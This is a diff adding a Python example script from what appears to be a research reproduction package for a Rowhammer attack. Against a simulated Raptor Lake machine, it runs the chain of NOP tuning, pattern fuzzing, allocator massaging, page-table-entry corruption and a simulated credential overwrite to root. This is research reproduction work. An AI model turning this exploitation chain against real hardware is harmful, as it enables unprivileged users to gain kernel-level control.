@@ -1,0 +1,90 @@
+"""End-to-end PTE corruption attack (Section 5.3) on Raptor Lake.
+
+Runs the full exploitation chain an unprivileged attacker would use:
+
+1. tune the NOP pseudo-barrier count for the platform,
+2. find a compact effective pattern that fits a 4 MiB buddy block,
+3. exhaust the buddy allocator and template flips in contiguous blocks,
+4. classify exploitable flips (PTE frame-number bit range [12, 19]),
+5. corrupt a PTE and verify page-table read/write control.
+
+Run:  python examples/end_to_end_attack.py [platform]
+"""
+
+import sys
+
+from repro import QUICK_SCALE, build_machine, rhohammer_config
+from repro.exploit import EndToEndAttack
+from repro.exploit.endtoend import canonical_compact_pattern, find_compact_pattern
+from repro.hammer.nops import tune_nop_count
+
+
+def main() -> None:
+    platform = sys.argv[1] if len(sys.argv) > 1 else "raptor_lake"
+    machine = build_machine(platform, "S3", scale=QUICK_SCALE)
+    print(f"Target: {machine.describe()}")
+
+    # ------------------------------------------------------------------
+    # Tuning phase: find the platform's optimal NOP count (Figure 10).
+    # ------------------------------------------------------------------
+    print("\n[1/3] Tuning the NOP pseudo-barrier ...")
+    base = rhohammer_config(nop_count=0, num_banks=3)
+    tuning = tune_nop_count(
+        machine,
+        base,
+        canonical_compact_pattern(),
+        base_rows=[4096, 20000],
+        activations_per_row=QUICK_SCALE.acts_per_pattern,
+        nop_grid=(0, 100, 220, 400, 1000),
+        scale=QUICK_SCALE,
+    )
+    print(f"  flips by NOP count : {tuning.flips_by_count}")
+    print(f"  optimal NOP count  : {tuning.best_nop_count}")
+    config = base.with_nops(tuning.best_nop_count)
+
+    # ------------------------------------------------------------------
+    # Pattern selection: compact enough to fit a 4 MiB templating block.
+    # ------------------------------------------------------------------
+    print("\n[2/3] Selecting a compact effective pattern ...")
+    pattern, flips = find_compact_pattern(machine, config, QUICK_SCALE, tries=30)
+    if pattern is None or flips == 0:
+        pattern = canonical_compact_pattern()
+        print("  fuzzing found none; using the canonical tuned pattern")
+    else:
+        print(f"  fuzzed pattern with {flips} flips: {pattern.describe()}")
+
+    # ------------------------------------------------------------------
+    # Exploit: massage, template, corrupt.
+    # ------------------------------------------------------------------
+    print("\n[3/3] Massaging + templating + PTE corruption ...")
+    attack = EndToEndAttack(
+        machine=machine, config=config, pattern=pattern, scale=QUICK_SCALE
+    )
+    outcome = attack.run()
+    print(f"  blocks templated   : {outcome.blocks_templated}")
+    print(f"  total flips        : {outcome.total_flips}")
+    print(f"  exploitable flips  : {outcome.exploitable_flips}")
+    print(f"  templating time    : {outcome.templating_seconds:.1f} s (virtual)")
+    print(f"  end-to-end time    : {outcome.total_seconds:.1f} s (virtual)")
+    if outcome.succeeded:
+        print(f"  PTE {outcome.corrupted_pte_before:#x} -> "
+              f"{outcome.corrupted_pte_after:#x}")
+        print(f"  page table redirected to attacker frame "
+              f"{outcome.redirected_frame} -> page-table read/write achieved")
+        # Continue to the canonical ending: zero the process credentials.
+        from repro.exploit.privilege import (
+            PageTableControl, SimulatedKernelMemory, escalate_privileges,
+        )
+        kernel = SimulatedKernelMemory(cred_frame=0x40000)
+        control = PageTableControl(
+            memory=kernel, table_frame=outcome.redirected_frame
+        )
+        escalation = escalate_privileges(kernel, control)
+        print(f"  cred uid {escalation.uid_before} -> {escalation.uid_after}"
+              f" (root={escalation.is_root})")
+    else:
+        print("  attack failed (no exploitable flip found in budget)")
+
+
+if __name__ == "__main__":
+    main()
